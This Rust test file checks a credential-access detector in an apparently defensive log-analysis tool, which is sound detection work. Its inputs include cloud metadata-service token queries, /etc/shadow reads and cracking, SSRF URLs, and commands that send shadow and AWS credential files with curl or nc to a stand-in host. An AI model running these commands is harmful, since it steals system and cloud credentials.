use super::*;
use crate::heuristics::testing::{found, history};
use riposte_model::EventOrigin;

fn one(cmd: &str) -> Vec<(String, Severity)> {
    found(&CredentialAccess.detect(&history(&[cmd])))
}

fn is(id: &str, severity: Severity) -> Vec<(String, Severity)> {
    vec![(id.to_string(), severity)]
}

#[test]
fn metadata_service_by_path() {
    for (cmd, id, severity) in [
        (
            "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "imds_credentials",
            Severity::High,
        ),
        (
            r#"curl -H "X-aws-ec2-metadata-token: $T" http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role"#,
            "imds_credentials",
            Severity::High,
        ),
        (
            "wget -qO- http://[fd00:ec2::254]/latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance",
            "imds_credentials",
            Severity::High,
        ),
        (
            "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
            "imds_credentials",
            Severity::High,
        ),
        (
            r#"curl -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"#,
            "imds_credentials",
            Severity::High,
        ),
        (
            "curl -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'",
            "imds_credentials",
            Severity::High,
        ),
        (
            r#"python3 -c "import urllib.request as u;print(u.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/').read())""#,
            "imds_credentials",
            Severity::High,
        ),
        (
            "curl http://169.254.169.254/latest/user-data",
            "imds_user_data",
            Severity::Medium,
        ),
        (
            r#"TOKEN=$(curl -s -X PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 21600")"#,
            "imds_query",
            Severity::Low,
        ),
        (
            "curl -s http://169.254.169.254/latest/meta-data/instance-id",
            "imds_query",
            Severity::Low,
        ),
        (
            "curl http://2852039166/latest/meta-data/",
            "imds_query",
            Severity::Low,
        ),
    ] {
        assert_eq!(one(cmd), is(id, severity), "{cmd}");
    }
}

#[test]
fn shadow_and_credential_files() {
    for (cmd, id, severity) in [
        ("cat /etc/shadow", "shadow_read", Severity::Medium),
        (
            "sudo cp /etc/shadow /tmp/s",
            "shadow_read",
            Severity::Medium,
        ),
        ("grep root /etc/gshadow", "shadow_read", Severity::Medium),
        (
            "tar czf /tmp/e.tgz /etc/passwd /etc/shadow",
            "shadow_read",
            Severity::Medium,
        ),
        ("base64 -w0 < /etc/shadow", "shadow_read", Severity::Medium),
        (
            "unshadow /etc/passwd /etc/shadow > /tmp/h",
            "shadow_stolen",
            Severity::High,
        ),
        (
            "john --wordlist=rockyou.txt /tmp/h",
            "shadow_stolen",
            Severity::High,
        ),
        (
            "curl -F 'f=@/etc/shadow' http://203.0.113.7/up",
            "shadow_stolen",
            Severity::High,
        ),
        (
            "nc 203.0.113.7 9000 < /etc/shadow",
            "shadow_stolen",
            Severity::High,
        ),
        (
            "cat /etc/shadow | nc 203.0.113.7 9000",
            "shadow_stolen",
            Severity::High,
        ),
        (
            "cat ~/.aws/credentials",
            "cloud_credentials_read",
            Severity::Low,
        ),
        (
            "cat /etc/kubernetes/admin.conf",
            "cloud_credentials_read",
            Severity::Low,
        ),
        (
            "cp /root/.docker/config.json /tmp/.d",
            "cloud_credentials_copied",
            Severity::Medium,
        ),
        (
            "tar czf /tmp/k.tgz /root/.kube/config",
            "cloud_credentials_copied",
            Severity::Medium,
        ),
        (
            "base64 -w0 ~/.aws/credentials",
            "cloud_credentials_copied",
            Severity::Medium,
        ),
        (
            "curl -F \"userfile=@/root/.aws/credentials\" http://203.0.113.7/upload.php",
            "cloud_credentials_stolen",
            Severity::High,
        ),
        (
            "cat $HOME/.aws/credentials | curl -d @- http://203.0.113.7/a",
            "cloud_credentials_stolen",
            Severity::High,
        ),
    ] {
        assert_eq!(one(cmd), is(id, severity), "{cmd}");
    }
}

#[test]
fn near_misses_raise_nothing() {
    for cmd in [
        "curl https://example.com",
        "grep root /etc/passwd",
        "ls -l /etc/shadow",
        "chmod 640 /etc/shadow",
        "stat /etc/shadow",
        "vim ~/.aws/credentials",
        "aws configure",
        "kubectl --kubeconfig ~/.kube/config get pods",
        "sudo cp -i /etc/kubernetes/admin.conf $HOME/.kube/config",
        "iptables -A OUTPUT -d 169.254.169.254 -j DROP",
        "useradd john",
        "ping 169.254.169.2",
        "cat /etc/shadowsocks/config.json",
    ] {
        assert_eq!(one(cmd), [], "{cmd}");
    }
}

fn request(url: &str, status: &str) -> Event {
    Event::new(
        None,
        "web1",
        Action::NetworkIncoming,
        "GET",
        EventOrigin {
            parser: "web_access".into(),
            path: "/var/log/nginx/access.log".into(),
            record: Some(7),
        },
    )
    .with("remote_ip", "198.51.100.23")
    .with("url", url)
    .with("status", status)
}

#[test]
fn ssrf_towards_the_metadata_service() {
    let events = [
        request(
            "/proxy?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2Fweb",
            "200",
        ),
        request("/fetch?u=http://169.254.169.254/latest/meta-data/", "200"),
        request(
            "/?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "403",
        ),
        request("/index.html", "200"),
        request(
            "/fetch?u=http%253A%252F%252F169.254.169.254%252Flatest%252Fuser-data",
            "200",
        ),
    ];
    let alarms = CredentialAccess.detect(&events);
    assert_eq!(
        found(&alarms),
        [
            ("imds_ssrf".to_string(), Severity::High),
            ("imds_ssrf".to_string(), Severity::Medium),
            ("imds_ssrf".to_string(), Severity::Low),
            ("imds_ssrf".to_string(), Severity::Medium),
        ]
    );
    assert!(
        alarms[0].title.contains("from 198.51.100.23"),
        "{}",
        alarms[0].title
    );
    assert_eq!(alarms[3].event_refs, [4]);
}

#[test]
fn connections_to_the_metadata_service_are_low_per_process() {
    let conn = |ip: &str, image: &str| {
        Event::new(
            None,
            "w",
            Action::NetworkOutgoing,
            "c",
            EventOrigin::default(),
        )
        .with("remote_ip", ip)
        .with("file_path", image)
    };
    let events = [
        conn("169.254.169.254", "C:\\Temp\\x.exe"),
        conn("169.254.169.254", "C:\\Temp\\x.exe"),
        conn("10.0.0.1", "C:\\Temp\\x.exe"),
    ];
    let alarms = CredentialAccess.detect(&events);
    assert_eq!(
        found(&alarms),
        [("imds_connection".to_string(), Severity::Low)]
    );
    assert_eq!(alarms[0].event_refs, [0, 1]);
}

#[test]
fn percent_decoding_never_panics() {
    assert_eq!(percent_decode("a%2Fb%"), "a/b%");
    assert_eq!(percent_decode("%252F"), "/");
    assert_eq!(percent_decode("%zz%4"), "%zz%4");
    assert_eq!(percent_decode("%C3%A9%FF"), "é\u{FFFD}");
    let long = "%41".repeat(100_000);
    assert_eq!(percent_decode(&long).len(), 16 * 1024 / 3 + 1);
}
